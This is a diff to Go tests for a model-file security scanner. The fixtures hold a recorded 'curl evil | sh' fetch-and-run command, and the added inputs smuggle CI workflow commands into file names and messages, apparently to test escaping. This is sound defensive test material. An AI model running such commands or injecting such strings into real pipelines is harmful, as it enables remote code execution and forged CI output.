@@ -26,7 +26,9 @@ func sampleReport() *scan.Report {
 		{Path: "models/evil.pt", Format: "pytorch", Status: scan.StatusScanned, Size: 2048,
 			Members: []string{"archive/data.pkl", "archive/version"},
 			Findings: []scan.Finding{
-				{Rule: scan.RuleUnknownImport, Severity: scan.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper"},
+				{Rule: scan.RuleUnknownImport, Severity: scan.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper",
+					Suppression: &scan.Suppression{Kind: "external", Justification: "our helper\n::warning::x"}},
+				{Rule: scan.RuleUnknownImport, Severity: scan.Medium, Message: "imports unknown global mypkg.other", Member: "archive/data.pkl", Offset: 99, Length: 20, Callable: "mypkg.other", Baseline: "unchanged"},
 				{Rule: scan.RuleDangerousCallable, Severity: scan.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
 				{Rule: scan.RuleDangerousCallable, Severity: scan.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
 			}},
@@ -38,6 +40,10 @@ func sampleReport() *scan.Report {
 		{Path: "big/model.bin", Format: "pickle", Status: scan.StatusNotScanned, Size: 1 << 30,
 			Findings: []scan.Finding{
 				{Rule: scan.RuleUnscannable, Severity: scan.High, Message: "file exceeds the 512 MiB size limit", Offset: -1},
+			}},
+		{Path: "::error file=x::owned.pkl", Format: "pickle", Status: scan.StatusScanned, Size: 64,
+			Findings: []scan.Finding{
+				{Rule: scan.RuleUnknownImport, Severity: scan.Low, Message: "::warning::message from the file", Offset: 7},
 			}},
 	}
 	return &scan.Report{Files: files, Summary: scan.Summarize(files, 2)}
@@ -140,7 +146,7 @@ func TestJSON(t *testing.T) {
 	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
 		t.Fatal(err)
 	}
-	if got.Tool.Version != "devel" || len(got.Files) != 5 {
+	if got.Tool.Version != "devel" || len(got.Files) != 6 {
 		t.Fatalf("tool %+v, %d files", got.Tool, len(got.Files))
 	}
 	for _, f := range got.Files {
@@ -170,7 +176,7 @@ func TestSummaryLine(t *testing.T) {
 	}{
 		{"none", scan.Summarize(nil, 0), "modelgate: 0 model files; no findings"},
 		{"clean", cleanReport().Summary, "modelgate: 1 model file (1 safetensors); no findings"},
-		{"findings", sampleReport().Summary, "modelgate: 4 model files (2 pickle, 1 pytorch, 1 safetensors), 1 partly scanned, 1 not scanned, 1 other file skipped, 2 excluded; 6 findings: 2 critical, 2 high, 2 medium"},
+		{"findings", sampleReport().Summary, "modelgate: 5 model files (3 pickle, 1 pytorch, 1 safetensors), 1 partly scanned, 1 not scanned, 1 other file skipped, 2 excluded; 6 findings: 2 critical, 2 high, 1 medium, 1 low; 1 suppressed by the policy file; 1 already in the baseline"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
